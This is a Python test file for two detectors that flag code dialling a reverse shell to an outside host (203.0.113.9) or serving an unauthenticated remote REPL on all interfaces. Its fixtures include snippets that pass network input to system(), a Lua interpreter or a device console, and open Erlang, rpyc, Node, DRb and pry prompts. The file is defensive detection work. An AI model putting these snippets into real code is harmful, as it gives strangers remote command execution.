"""Shells that a program opens to a stranger's machine, and prompts that it serves to all."""

from __future__ import annotations

import pytest

from signoff.actions.contents.loaders.dialled_shells import dialled_shell
from signoff.actions.contents.loaders.served_prompts import served_prompt

SOCKET = 'inet_pton(AF_INET, "203.0.113.9", &a.sin_addr);\nconnect(s, &a, sizeof a);\n'


@pytest.mark.parametrize(
    "code",
    [
        'for (;;) { tcp_shell_dial("203.0.113.9", 4444); }',
        'shellConnect("203.0.113.9:4444")',
        f"{SOCKET}recv(s, line, 90, 0);\nsystem(line);",
        f"{SOCKET}while (read(s, line, 90) > 0)\n  esp_console_run(line, &ret);",
        'c.connect("203.0.113.9", 80);\nline = c.readString();\nluaL_dostring(L, line.c_str());',
    ],
)
def test_a_shell_that_dials_a_strangers_machine_is_found(code: str) -> None:
    assert dialled_shell(code)


@pytest.mark.parametrize(
    "code",
    [
        'shell = connect_shell("203.0.113.9")',
        'connect_shell("192.168.1.4")',
        '# reverse_shell("203.0.113.9")',
        "BAD = 'reverse_shell(\"203.0.113.9\")'",
        f'{SOCKET}recv(s, line, 90, 0);\nlog_line(line);\nsystem("sync");',
        "uart_read(line, 90);\nesp_console_run(line, &ret);",
    ],
)
def test_a_shell_over_there_and_a_fixed_command_are_none(code: str) -> None:
    assert not dialled_shell(code)


@pytest.mark.parametrize(
    "code",
    [
        'Node.start(:"desk@0.0.0.0"); Node.set_cookie(:press)',
        "net_kernel:start(['desk@0.0.0.0', longnames]),\nerlang:set_cookie(node(), press).",
        'ThreadedServer(ClassicService, hostname="0.0.0.0", port=1).start()',
        "net.createServer((c) => repl.start({ input: c, output: c })).listen(1, '0.0.0.0')",
        "DRb.start_service 'druby://:8787', binding",
        'binding.remote_pry("0.0.0.0", 9876)',
        'serve_repl(ip"0.0.0.0", 27754)',
    ],
)
def test_a_prompt_for_every_machine_is_found(code: str) -> None:
    assert served_prompt(code)


@pytest.mark.parametrize(
    "code",
    [
        'Node.start(:"desk@127.0.0.1"); Node.set_cookie(:press)',
        'Node.start(:"desk@0.0.0.0"); Node.set_cookie(cookie)',
        "net_kernel:start(['desk@0.0.0.0', longnames]),\nerlang:set_cookie(node(), Cookie).",
        'ThreadedServer(ClassicService, hostname="0.0.0.0", authenticator=tls).start()',
        'ThreadedServer(Pages, hostname="0.0.0.0", port=1).start()',
        "net.createServer((c) => repl.start({ input: c, output: c })).listen(1, '127.0.0.1')",
        "binding.remote_pry",
    ],
)
def test_a_prompt_for_this_machine_or_behind_a_secret_is_none(code: str) -> None:
    assert not served_prompt(code)
